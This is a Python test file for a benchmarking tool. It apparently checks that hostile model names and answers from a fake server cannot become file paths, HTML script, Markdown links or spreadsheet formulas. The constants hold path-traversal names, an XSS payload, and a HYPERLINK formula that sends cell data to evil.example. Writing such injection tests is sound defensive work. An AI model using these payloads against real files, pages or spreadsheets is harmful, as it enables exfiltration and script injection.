"""Names and answers of a server are data: they become no path, no markup, no formula."""

from __future__ import annotations

import csv
import html.parser
import io
import json
import os
import re
import xml.etree.ElementTree as ElementTree
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import pytest

from loadbench.quality import read as read_answers
from loadbench.store import read as read_run
from tests.support.command import OURS, invoke
from tests.support.gateways import Answered, Asked, gateway, listed

BRIEF = ("-c", "1,2", "-n", "2", "--warmup", "0", "--no-repeat-first", "--max-tokens", "4")
MARKUP = '</script><script>alert(1)</script><img src=x onerror="alert(2)">]]><x/> [a](javascript:b) | @all #1 `c` &'
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"x")'
NAMES = (
    "../../../../tmp/up",
    "..\\..\\up",
    "/etc/passwd",
    "C:\\Windows\\up",
    "a/../../b,\nTag=x,1",
    "CON",
    MARKUP,
    FORMULA,
)


def law(asked: Asked) -> Answered:
    """Lists models of such names, and answers in their words."""
    if asked.method == "GET":
        return listed(*NAMES, license=MARKUP, device=MARKUP)
    model = asked.body["model"]
    choices = [
        {"index": 0, "delta": {"content": FORMULA if model == FORMULA else f"{MARKUP}{model}"}},
        {"index": 0, "delta": {}, "finish_reason": MARKUP},
    ]
    return Answered(events=[{"model": MARKUP, "choices": [choice]} for choice in choices])


@pytest.fixture(scope="module")
def url() -> Iterator[str]:
    """The address of that server."""
    with gateway(law) as server:
        yield server.url


@pytest.fixture(scope="module")
def place(url: str, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder, some levels deep, with a run of all those models, and all that can be made of it, beside nothing."""
    root = tmp_path_factory.mktemp("root")
    deep = root / "a/b/c"
    deep.mkdir(parents=True)
    kept = {name: os.environ.pop(name) for name in list(os.environ) if name.startswith(OURS)}
    was = Path.cwd()
    os.chdir(deep)
    try:
        Path("s.json").write_text(json.dumps({"models": NAMES}))
        done = invoke(
            *("run", "s.json", "-e", url, *BRIEF, "-o", "run", "--junit", "run.xml", "--fail-if", "ttft_p95 > 1ms")
        )
        assert done.exit_code in (0, 3), done.output
        for words in (
            ("report", "run", "--format", "hgrm", "-o", "hgrm"),
            ("report", "run", "--format", "vllm", "-o", "vllm"),
            ("score", "run", "--stub", "sheet.csv"),
            ("select", "run", "--write-models", "models.json", "--format", "markdown", "-o", "choice.md"),
            ("compare", "run", "--format", "markdown", "-o", "compared.md", "--junit", "compared.xml"),
        ):
            done = invoke(*words)
            assert done.exit_code in (0, 3), done.output
    finally:
        os.chdir(was)
        os.environ.update(kept)
    return deep


def test_no_name_of_a_server_becomes_a_path(place: Path) -> None:
    outside = [path for path in place.parents[2].rglob("*") if not path.is_relative_to(place) and path.is_file()]
    files = [path for path in place.rglob("*") if path.is_file()]

    assert outside == []
    assert {path.parent.relative_to(place).as_posix() for path in files} == {".", "run", "hgrm", "vllm"}
    assert [path.name for path in files if not re.fullmatch(r"[\w@][\w@.-]*", path.name, re.ASCII)] == []


def test_each_model_has_files_of_its_own(place: Path) -> None:
    assert len(list((place / "vllm").iterdir())) == 2 * len(NAMES)


class Tags(html.parser.HTMLParser):
    """Counts elements; keeps the names of their attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: Counter[str] = Counter()
        self.attributes: set[str] = set()
        self.scripts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        if self.cdata_elem == "script":
            self.scripts.append(data.strip())


def test_a_page_has_no_element_and_no_handler_that_a_server_wrote(place: Path) -> None:
    page = Tags()
    page.feed((place / "run/report.html").read_text(encoding="utf-8"))

    assert page.tags["script"] <= 5, (
        "the data, plotly's where it is installed, the page's own, the choice's, and that of what-if"
    )
    assert [script for script in page.scripts if script.startswith("alert")] == []
    assert not {"img", "x", "iframe", "base"} & set(page.tags)
    assert not [name for name in page.attributes if name.startswith("on")]


@pytest.mark.parametrize("file", ["run.xml", "compared.xml"])
def test_junit_has_the_elements_of_junit_alone(place: Path, file: str) -> None:
    root = ElementTree.parse(place / file).getroot()

    assert {element.tag for element in root.iter()} <= {
        *("testsuites", "testsuite", "testcase", "failure", "error", "skipped"),
        *("properties", "property", "system-out", "system-err"),
    }
    assert "alert(1)" in ElementTree.tostring(root, encoding="unicode")


@pytest.mark.parametrize("file", ["run/report.md", "compared.md", "choice.md"])
def test_markdown_has_no_tag_no_link_and_nobody_is_called(place: Path, file: str) -> None:
    text = (place / file).read_text(encoding="utf-8")
    bare = re.sub(r"</?(?:code|details|summary|sup|br)>", "", text).replace("@<!-- -->", "")

    assert "alert" in text
    assert re.findall(r"<[a-z/!].{20}", bare) == []
    assert "](javascript" not in text
    assert re.findall(r"(?<![\w.&])[@#](?:all|1)\b", bare) == []


@pytest.mark.parametrize("file", ["run/summary.csv", "sheet.csv"])
def test_no_cell_of_a_table_is_a_formula_or_a_second_row(place: Path, file: str) -> None:
    rows = list(csv.reader(io.StringIO((place / file).read_text(encoding="utf-8-sig"), newline="")))

    assert any(FORMULA in cell for row in rows for cell in row)
    assert {len(row) for row in rows} == {len(rows[0])}
    assert [cell for row in rows for cell in row if cell.startswith(("=", "@", "+"))] == []


def test_what_was_stored_is_what_was_said(place: Path) -> None:
    run, answers = read_run(place / "run"), read_answers(place / "run", None).answers

    assert {str(data.facts["model"]) for data in run.levels} == set(NAMES)
    assert FORMULA in {answer.text for answer in answers}
    assert json.loads((place / "models.json").read_text())[MARKUP]
